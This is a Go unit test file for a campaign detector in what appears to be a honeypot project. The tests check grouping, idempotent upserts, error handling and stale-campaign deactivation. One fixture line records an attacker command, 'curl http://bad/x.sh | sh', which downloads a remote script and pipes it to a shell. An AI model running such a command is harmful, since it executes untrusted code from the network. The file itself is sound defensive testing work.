package campaign

import (
	"context"
	"fmt"
	"testing"
	"time"

	"decoynet/pkg/models"
)

type fakeStore struct {
	events    []models.Event
	attackers []models.Attacker

	upserts        map[string]int
	lastCutoff     time.Time
	eventsErr      error
	deactivateHits int
}

func newFakeStore() *fakeStore {
	return &fakeStore{upserts: make(map[string]int)}
}

func (f *fakeStore) EventsSince(_ context.Context, since time.Time, _ int64) ([]models.Event, error) {
	if f.eventsErr != nil {
		return nil, f.eventsErr
	}
	var out []models.Event
	for _, ev := range f.events {
		if !ev.Timestamp.Before(since) {
			out = append(out, ev)
		}
	}
	return out, nil
}

func (f *fakeStore) RecentAttackers(_ context.Context, _ time.Time) ([]models.Attacker, error) {
	return f.attackers, nil
}

func (f *fakeStore) UpsertCampaign(_ context.Context, c *models.Campaign) error {
	f.upserts[c.Key()]++
	return nil
}

func (f *fakeStore) DeactivateCampaignsBefore(_ context.Context, cutoff time.Time) (int, error) {
	f.lastCutoff = cutoff
	f.deactivateHits++
	return 0, nil
}

func TestDetectOnceUpsertsQualifyingCampaigns(t *testing.T) {
	base := time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)
	store := newFakeStore()
	for i := 0; i < 5; i++ {
		store.events = append(store.events, models.Event{
			SourceIP:  fmt.Sprintf("203.0.113.%d", i+1),
			Command:   "curl http://bad/x.sh | sh",
			Timestamp: base.Add(time.Duration(i) * time.Minute),
		})
	}

	d := NewDetector(store, Config{Window: time.Hour})
	d.now = func() time.Time { return base.Add(30 * time.Minute) }

	campaigns, err := d.DetectOnce(context.Background())
	if err != nil {
		t.Fatalf("DetectOnce: %v", err)
	}
	if len(campaigns) != 1 {
		t.Fatalf("expected 1 campaign, got %d", len(campaigns))
	}
	key := string(models.CampaignCommandPattern) + "|curl http://bad/x.sh | sh"
	if store.upserts[key] != 1 {
		t.Fatalf("expected 1 upsert for %q, got %v", key, store.upserts)
	}
}

func TestDetectOnceIsIdempotentOnUnchangedData(t *testing.T) {
	base := time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)
	store := newFakeStore()
	for i := 0; i < 5; i++ {
		store.events = append(store.events, models.Event{
			SourceIP:  fmt.Sprintf("203.0.113.%d", i+1),
			Command:   "uname -a",
			Timestamp: base,
		})
	}

	d := NewDetector(store, Config{Window: time.Hour})
	d.now = func() time.Time { return base.Add(10 * time.Minute) }

	for i := 0; i < 2; i++ {
		if _, err := d.DetectOnce(context.Background()); err != nil {
			t.Fatalf("DetectOnce run %d: %v", i+1, err)
		}
	}
	if len(store.upserts) != 1 {
		t.Fatalf("expected one campaign key, got %v", store.upserts)
	}
	key := string(models.CampaignCommandPattern) + "|uname -a"
	if store.upserts[key] != 2 {
		t.Fatalf("expected same key upserted twice, got %v", store.upserts)
	}
}

func TestDetectOnceSkipsCycleOnStoreError(t *testing.T) {
	store := newFakeStore()
	store.eventsErr = fmt.Errorf("redis down")

	d := NewDetector(store, Config{})
	if _, err := d.DetectOnce(context.Background()); err == nil {
		t.Fatalf("expected error when event scan fails")
	}
	if len(store.upserts) != 0 {
		t.Fatalf("expected no upserts on failed cycle, got %v", store.upserts)
	}
}

func TestCycleDeactivatesStaleCampaigns(t *testing.T) {
	base := time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)
	store := newFakeStore()

	d := NewDetector(store, Config{Window: time.Hour})
	d.now = func() time.Time { return base }

	d.cycle(context.Background())
	if store.deactivateHits != 1 {
		t.Fatalf("expected one deactivation pass, got %d", store.deactivateHits)
	}
	want := base.Add(-2 * time.Hour)
	if !store.lastCutoff.Equal(want) {
		t.Fatalf("cutoff = %v, want %v", store.lastCutoff, want)
	}
}
